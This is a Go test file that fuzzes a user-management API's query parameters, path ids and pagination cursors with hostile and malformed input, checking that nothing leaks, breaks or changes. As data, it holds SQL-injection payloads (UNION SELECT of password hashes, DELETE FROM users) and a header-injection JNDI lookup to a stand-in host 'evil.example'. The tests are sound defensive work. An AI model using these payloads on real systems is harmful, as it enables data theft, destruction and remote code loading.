package api_test

import (
	"encoding/base64"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/proofkey/proofkey/management/api"
)

// always are conditions that hold for every row where they get into a statement or a query as they are.
var always = []string{
	`x' OR '1'='1`, `x%') OR ('%'='`, `x' UNION SELECT user_id, password_hash, 1, 1 FROM users --`, `x'; DELETE FROM users; --`, `x\' || (SELECT settings FROM tenant) OR 1=1 --`,
}

// broken is what a parser may stumble on.
var broken = []string{
	"'", `"\`, "%*", "\x00", "\xff\xfe", "-1", "99999999999999999999", `{"$ne":null},,`, "\r\nX-Evil: ${jndi:ldap://evil.example/}", strings.Repeat("x", 9000),
}

// unparsed is what a parser of searches may stumble on.
var unparsed = []string{
	"(", ")", "[", "]", "{", "}", ":", "::", "--", "+", "!", "^", "~", "/", "email:", "email:(", `email:"`, "email:[", "email:[a TO", "email:{* TO *}", "email:/.*/",
	"email:a~", "NOT", "AND", "a AND", "OR OR", "((((((((", "a:b:c", strings.Repeat("(", 500), strings.Repeat("NOT ", 500), strings.Repeat("a OR ", 500) + "a",
	"email:" + strings.Repeat("*a", 200),
}

// fault says whether a text tells of the database. Nothing shorter: random ids and secrets have any three letters.
func fault(text string) bool {
	text = strings.ToLower(text)
	return slices.ContainsFunc([]string{"sqlite", "sqlstate", "syntax error at", "no such column", "no such table", "pgx:", "pgconn", "unterminated"}, func(s string) bool { return strings.Contains(text, s) })
}

// TestNoQueryIsAStatement sends conditions and what breaks parsers in every parameter of every endpoint: none finds a row
// that it does not name, none fails, and all is there afterwards.
func TestNoQueryIsAStatement(t *testing.T) {
	s := open(t)
	e := furnish(t, s, "canary")
	before := e.view()
	tried := 0
	// One place reads the parameters of pages, so a few lists stand for all.
	paging := map[string]int{"page": 3, "per_page": 3, "include_totals": 3, "from": 3, "take": 3, "fields": 3, "include_fields": 3}
	for _, k := range api.Endpoints() {
		path, _, known := e.fill(k.Path)
		if !k.Built || !known || k.Method != "GET" {
			continue
		}
		for _, name := range k.Query {
			left, generic := paging[name]
			if name == "*" || generic && left == 0 {
				continue
			}
			if generic {
				paging[name]--
			}
			ask := func(value string) answer {
				tried++
				q, err := url.ParseQuery(strings.TrimPrefix(needed[k.Path], "?"))
				if err != nil {
					t.Fatal(err)
				}
				q.Set(name, value)
				a := s.call("GET", path+"?"+q.Encode(), nil)
				if a.status >= 500 || a.status != 200 && a.status != 400 && a.status != 403 && a.status != 404 || fault(a.text) {
					t.Errorf("GET %s, %s=%.60q: %d %.300s", k.Path, name, value, a.status, a.text)
				}
				return a
			}
			none := len(items(ask("nobody-has-this")))
			for _, condition := range always {
				if a := ask(condition); a.status == 200 && len(items(a)) > none {
					t.Errorf("GET %s, %s=%s finds %d: %.300s", k.Path, name, condition, len(items(a)), a.text)
				}
			}
			values := broken
			if name == "q" || name == "search" {
				values = slices.Concat(broken, unparsed)
			}
			for _, value := range values {
				ask(value)
			}
		}
	}
	if tried < 900 {
		t.Errorf("only %d requests", tried)
	}
	for _, c := range e.changedFrom(before) {
		t.Error("changed: ", c)
	}
	if strings.Contains(s.Log.String(), `"level":"ERROR"`) {
		t.Error("the log has an error")
	}
}

// TestNoIDIsAStatement puts the same in the place of ids.
func TestNoIDIsAStatement(t *testing.T) {
	s := open(t)
	e := furnish(t, s, "canary")
	before := e.view()
	for _, k := range api.Endpoints() {
		if !k.Built || !strings.Contains(k.Path, "{") {
			continue
		}
		for _, id := range []string{always[0], always[2], always[3], `"`, `\`, "%", "-1", "99999999999999999999", "../users", "a\r\nb"} {
			escaped := url.PathEscape(id)
			if a := s.call(k.Method, variable.ReplaceAllLiteralString(k.Path, escaped)+needed[k.Path], bodyFor(t, e, k)); a.status >= 500 || a.status < 300 && k.Method == "GET" && len(items(a)) > 0 || fault(a.text) {
				t.Errorf("%s %s with %.60q: %d %.300s", k.Method, k.Path, id, a.status, a.text)
			}
		}
	}
	for _, c := range e.changedFrom(before) {
		t.Error("changed: ", c)
	}
	if strings.Contains(s.Log.String(), `"level":"ERROR"`) {
		t.Error("the log has an error")
	}
}

// TestSecretsAreNotSearched: who may search for users learns nothing of what answers do not show, not even whether it begins
// with a letter.
func TestSecretsAreNotSearched(t *testing.T) {
	s := open(t)
	s.person(`,"email":"jane@example.com"`)
	for _, field := range []string{"password_hash", "password", "digest", "secret", "hash", "users.password_hash", "profile", "rowid", "ctid", "1", "_rowid_"} {
		for _, value := range []string{"*", "a*", "$argon2*", `"$argon2id"`, "[* TO *]", "x"} {
			if a := s.call("GET", "/users?q="+url.QueryEscape(field+":"+value), nil); a.status == 200 && len(a.list()) > 0 || a.status >= 500 {
				t.Errorf("%s:%s: %d %.300s", field, value, a.status, a.text)
			}
		}
		if a := s.call("GET", "/users?q="+url.QueryEscape("_exists_:"+field), nil); a.status == 200 && len(a.list()) > 0 || a.status >= 500 {
			t.Errorf("_exists_:%s: %d %.300s", field, a.status, a.text)
		}
		if a := s.call("GET", "/users?sort="+url.QueryEscape(field+":1"), nil); a.status != 400 {
			t.Errorf("sort=%s:1: %d %.300s", field, a.status, a.text)
		}
		if a := s.call("GET", "/users?fields="+url.QueryEscape(field), nil); strings.Contains(a.text, "argon2") {
			t.Errorf("fields=%s: %.300s", field, a.text)
		}
	}
}

// TestForgedPages: the checkpoint of a page may be forged, and leads to nothing but a place in the same list.
func TestForgedPages(t *testing.T) {
	s := open(t)
	e := furnish(t, s, "canary")
	before := e.view()
	var forged []string
	for _, plain := range []string{
		`null`, `[]`, `{}`, `""`, `[null]`, `[1]`, `[1.5e300]`, `[true]`, `[{}]`, `[["a"]]`, `[""]`, `["a"]`, `["a","b"]`, `["a","b","c","d","e","f"]`, `["\u0000"]`, `["\ud800"]`,
		`["' OR 1=1 --"]`, `["1","' OR 1=1 --"]`, `["9999999999999999999999","x"]`, `["-1","-1"]`, `["2026-01-01T00:00:00Z"]`, `[` + strings.Repeat(`[`, 900), `["` + strings.Repeat("x", 1000) + `"]`,
		`["` + strings.Repeat("x", 3000) + `"]`, "\xff", `["` + "\xff" + `"]`,
	} {
		forged = append(forged, base64.RawURLEncoding.EncodeToString([]byte(plain)), base64.StdEncoding.EncodeToString([]byte(plain)), plain)
	}
	forged = append(forged, "..", "a.b", "%", strings.Repeat("A", 5000), "900000000000000000000000000000000000000000000000000000", "log_x")
	lists := 0
	for _, k := range api.Endpoints() {
		path, _, known := e.fill(k.Path)
		if !k.Built || !known || k.Method != "GET" || !slices.Contains(k.Query, "take") || strings.HasPrefix(k.Path, "/logs") {
			continue
		}
		lists++
		join := "?"
		if needed[k.Path] != "" {
			join = needed[k.Path] + "&"
		}
		whole := s.call("GET", path+join+"take=50", nil)
		if whole.status != 200 {
			if whole.status >= 500 {
				t.Errorf("%s: %d %s", path, whole.status, whole.text)
			}
			continue
		}
		for _, from := range forged {
			a := s.call("GET", path+join+"take=50&from="+url.QueryEscape(from), nil)
			if a.status != 200 && a.status != 400 || fault(a.text) {
				t.Errorf("%s from %.80q: %d %.300s", path, from, a.status, a.text)
			}
			if len(items(a)) > len(items(whole)) {
				t.Errorf("%s from %.80q has more than the list: %.300s", path, from, a.text)
			}
		}
	}
	if lists < 15 {
		t.Errorf("only %d lists have checkpoints", lists)
	}
	for _, c := range e.changedFrom(before) {
		t.Error("changed: ", c)
	}
	if strings.Contains(s.Log.String(), `"level":"ERROR"`) {
		t.Error("the log has an error")
	}
}
